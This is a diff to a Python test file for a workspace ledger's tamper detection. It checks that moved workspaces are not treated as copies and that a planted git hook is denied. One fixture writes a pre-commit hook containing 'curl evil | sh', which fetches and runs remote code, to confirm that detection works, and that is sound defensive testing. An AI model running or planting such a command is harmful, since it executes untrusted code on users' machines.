@@ -239,12 +239,27 @@ def test_a_copy_cannot_vouch_for_a_key_in_the_originals_trust_root(original: Wor
     assert b"is a copy of" in done.stderr
 
 
-def test_a_moved_workspace_is_no_copy(original: Workspace) -> None:
-    use(original, 2)
+@pytest.mark.parametrize("how", ["mv", "copied, then the original deleted"])
+def test_a_moved_workspace_is_no_copy_and_no_tampering(original: Workspace, how: str) -> None:
+    use(original, 3)
+    moved = Workspace(original.root.parent / "moved", original.home)
+    if how == "mv":
+        original.root.rename(moved.root)
+    else:
+        _cp_a(original.root, moved.root)
+        shutil.rmtree(original.root)
+    use(moved, 3)  # its seal names the old paths: they are read as the new ones
+    assert not [r for r in moved.records() if r.kind == "governance.tamper"]
+    ledger = Ledger.open(moved.root, environ=moved.env)
+    assert ledger_home(ledger.ledger_id, moved.env) == str(moved.root.resolve())
+    assert ledger.verify(jobs=1).ok
+
+
+def test_a_file_planted_in_a_moved_workspace_is_still_caught(original: Workspace) -> None:
+    use(original, 3)
     moved = Workspace(original.root.parent / "moved", original.home)
     original.root.rename(moved.root)
-    answer = hook(moved, n=50)
-    assert "is a copy of" not in str(answer.get("permissionDecisionReason"))
-    assert ledger_home(Ledger.open(moved.root, environ=moved.env).ledger_id, moved.env) == str(
-        moved.root.resolve()
-    )
+    moved.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+    answer = hook(moved, n=60)
+    assert answer["permissionDecision"] == "deny"
+    assert "pre-commit was added" in str(answer["permissionDecisionReason"])
